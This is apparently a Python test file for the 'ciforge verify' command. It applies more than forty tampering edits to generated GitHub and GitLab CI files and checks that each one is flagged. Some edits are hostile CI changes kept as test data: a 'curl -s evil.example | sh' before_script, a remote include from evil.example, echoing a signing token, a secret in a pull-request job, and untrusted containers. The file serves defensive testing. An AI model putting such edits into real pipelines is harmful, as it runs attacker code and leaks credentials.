"""Issue 11 item 2: `ciforge verify` catches security-relevant hand edits, not only changed
commands. Each edit below is applied to the go-service golden output on disk; verify must exit 1.
The unedited files verify cleanly (the control)."""

from __future__ import annotations

import functools
import io
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any, Final

import pytest
from ruamel.yaml import YAML

from ciforge import ir
from ciforge.cli import main
from ciforge.compiler import compile_file
from ciforge.plan import verify as verify_files
from tests.conftest import ROOT
from tests.helpers import GITHUB, GITLAB

CASE: Final = ROOT / "tests" / "cases" / "go-service"
Edit = Callable[[dict[str, Any]], None]


def _steps(w: dict[str, Any], job: str) -> list[dict[str, Any]]:
    steps: list[dict[str, Any]] = w["jobs"][job]["steps"]
    return steps


def _step(w: dict[str, Any], job: str, uses: str) -> dict[str, Any]:
    return next(s for s in _steps(w, job) if str(s.get("uses", "")).startswith(uses))


def _set(target: dict[str, Any], key: str, value: Any) -> None:
    target[key] = value


def _extends(d: dict[str, Any], name: str, template: dict[str, Any]) -> None:
    d[name] = template
    d["test"]["extends"] = name


def _buildx(d: dict[str, Any], old: str, new: str) -> None:
    d["image-publish"]["script"] = [b.replace(old, new) for b in d["image-publish"]["script"]]


GITHUB_EDITS: Final[dict[str, Edit]] = {
    "permissions: write-all": lambda w: _set(w, "permissions", "write-all"),
    "job permissions: write-all": lambda w: _set(w["jobs"]["lint"], "permissions", "write-all"),
    "write scope on the pull-request test job": lambda w: _set(w["jobs"]["test"]["permissions"], "contents", "write"),
    "id-token on the pull-request test job": lambda w: _set(w["jobs"]["test"]["permissions"], "id-token", "write"),
    "persist-credentials: true": lambda w: _set(
        _step(w, "lint", "actions/checkout")["with"], "persist-credentials", True
    ),
    "action pinned by tag": lambda w: _set(_step(w, "lint", "actions/checkout"), "uses", "actions/checkout@v4"),
    "action pinned to another commit": lambda w: _set(
        _step(w, "test", "actions/setup-go"), "uses", "actions/setup-go@" + "a" * 40
    ),
    "defaults.run.shell changed": lambda w: _set(w["defaults"]["run"], "shell", "sh"),
    "a step's own shell": lambda w: _set(_steps(w, "test")[2], "shell", "sh -e {0}"),
    "workflow_run trigger added": lambda w: _set(
        w["on"], "workflow_run", {"workflows": ["ci"], "types": ["completed"]}
    ),
    "pull_request_target trigger added": lambda w: _set(w["on"], "pull_request_target", {}),
    "schedule trigger added": lambda w: _set(w["on"], "schedule", [{"cron": "0 0 * * *"}]),
    "Go cache on tag refs": lambda w: _set(_step(w, "build", "actions/setup-go")["with"], "cache", True),
    "Go cache restored on tag refs": lambda w: _set(_step(w, "build", "actions/cache")["with"], "lookup-only", False),
    "Go cache shared by every build leg": lambda w: _set(
        _step(w, "build", "actions/cache")["with"], "key", "go-build-${{ hashFiles('go.mod') }}"
    ),
    "image cache from a shared registry ref": lambda w: _set(
        _step(w, "image-publish", "docker/build-push-action")["with"], "cache-from", "type=registry,ref=x:cache"
    ),
    "sign job out of its environment": lambda w: w["jobs"]["sign"].pop("environment"),
    "a secret in a pull-request job": lambda w: _set(w["jobs"]["test"]["env"], "T", "${{ secrets.REGISTRY_PASSWORD }}"),
    "continue-on-error on the gate job": lambda w: _set(w["jobs"]["test"], "continue-on-error", True),
    "tags pushed by image-publish": lambda w: _set(
        _step(w, "image-publish", "docker/build-push-action")["with"], "tags", "${{ env.IMAGE_TAGS }}"
    ),
    "cancel-in-progress on every event": lambda w: _set(w["concurrency"], "cancel-in-progress", True),
    "a job container": lambda w: _set(w["jobs"]["test"], "container", "evil/image:latest"),
}

GITLAB_EDITS: Final[dict[str, Edit]] = {
    "default: before_script": lambda d: _set(d, "default", {"before_script": ["curl -s evil.example | sh"]}),
    "default: hooks": lambda d: _set(d, "default", {"hooks": {"pre_get_sources_script": ["echo x"]}}),
    "top-level before_script": lambda d: _set(d, "before_script", ["echo x"]),
    "job before_script": lambda d: _set(d["test"], "before_script", ["curl -s evil.example | sh"]),
    "job after_script": lambda d: _set(d["sign"], "after_script", ['echo "$SIGSTORE_ID_TOKEN"']),
    "job hooks": lambda d: _set(d["build"], "hooks", {"pre_get_sources_script": ["echo x"]}),
    "include: remote": lambda d: _set(d, "include", [{"remote": "https://evil.example/ci.yml"}]),
    "id_tokens on a merge-request job": lambda d: _set(d["test"], "id_tokens", {"T": {"aud": "sigstore"}}),
    "id_tokens aud changed": lambda d: _set(d["sign"]["id_tokens"]["SIGSTORE_ID_TOKEN"], "aud", "https://evil.example"),
    "sign job out of its environment": lambda d: d["sign"].pop("environment"),
    "release in another environment": lambda d: _set(d["release"], "environment", {"name": "staging"}),
    "image-publish interruptible": lambda d: _set(d["image-publish"], "interruptible", True),
    "Go cache key shared across refs": lambda d: _set(d["build"]["cache"]["key"], "prefix", "go-$CI_JOB_NAME_SLUG"),
    "Go cache key shared by every job": lambda d: _set(
        d["build"]["cache"]["key"], "prefix", "go-$CI_COMMIT_REF_PROTECTED-$CI_COMMIT_REF_SLUG"
    ),
    "image cache shared across refs": lambda d: _buildx(
        d, ":buildcache-${CI_COMMIT_REF_PROTECTED:-false}", ":buildcache"
    ),
    "tags pushed by image-publish": lambda d: _buildx(
        d, "--file Dockerfile", '--file Dockerfile --tag "${IMAGE}:latest"'
    ),
    "release-assets clones the repository": lambda d: d["release-assets"]["variables"].pop("GIT_STRATEGY"),
    "allow_failure on the scan gate": lambda d: _set(d["scan"], "allow_failure", True),
    "extra service on the test job": lambda d: _set(d["test"], "services", ["evil/sidecar:latest"]),
    "extends a hidden job": lambda d: _extends(d, ".evil", {"before_script": ["echo x"]}),
}


def tampered(tmp_path: Path, rel: str, edit: Edit | None) -> Path:
    """A copy of the go-service case with one edit applied to ``rel``; returns the manifest."""
    root = tmp_path / "case"
    shutil.copytree(CASE, root)
    if edit is not None:
        yaml = YAML(typ="safe", pure=True)
        data = yaml.load((root / rel).read_text(encoding="utf-8"))
        edit(data)
        stream = io.StringIO()
        yaml.dump(data, stream)
        (root / rel).write_text(stream.getvalue(), encoding="utf-8")
    return root / "ciforge.yml"


def verify(manifest: Path, capsys: pytest.CaptureFixture[str]) -> tuple[int, str]:
    """`ciforge verify` in-process: exit code and stdout."""
    capsys.readouterr()
    code = main(["verify", "-m", str(manifest)])
    return code, capsys.readouterr().out


@functools.cache
def pipeline() -> ir.Pipeline:
    result = compile_file(CASE / "ciforge.yml", out_dir=CASE, targets=())
    assert result.pipeline is not None
    return result.pipeline


def problems(manifest: Path) -> list[str]:
    """What verify reports (the library call behind the CLI, with the manifest compiled once)."""
    return verify_files.check(pipeline(), manifest.parent)


@pytest.mark.parametrize("rel", [GITHUB, GITLAB])
def test_untouched_files_verify(rel: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """The control: the same round trip without an edit is equivalent."""
    assert verify(tampered(tmp_path, rel, lambda _: None), capsys) == (0, "")


def test_the_cli_reports_a_tampering(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out = verify(tampered(tmp_path, GITHUB, GITHUB_EDITS["permissions: write-all"]), capsys)
    assert code == 1
    assert "security posture: the file: found 'permissions: write-all'" in out


def test_at_least_15_distinct_edits_per_platform() -> None:
    assert len(GITHUB_EDITS) >= 15
    assert len(GITLAB_EDITS) >= 15


@pytest.mark.parametrize("edit", GITHUB_EDITS.values(), ids=GITHUB_EDITS.keys())
def test_github_tampering_is_caught(edit: Edit, tmp_path: Path) -> None:
    found = problems(tampered(tmp_path, GITHUB, edit))
    assert found
    assert all(p.split(":", 1)[0].endswith(GITHUB) for p in found), found


@pytest.mark.parametrize("edit", GITLAB_EDITS.values(), ids=GITLAB_EDITS.keys())
def test_gitlab_tampering_is_caught(edit: Edit, tmp_path: Path) -> None:
    found = problems(tampered(tmp_path, GITLAB, edit))
    assert found
    # each problem names the GitLab file (as a relative path, or as the full path of a positioned
    # "not generated by ciforge" diagnostic)
    assert all(p.split(":", 1)[0].endswith(GITLAB) for p in found), found
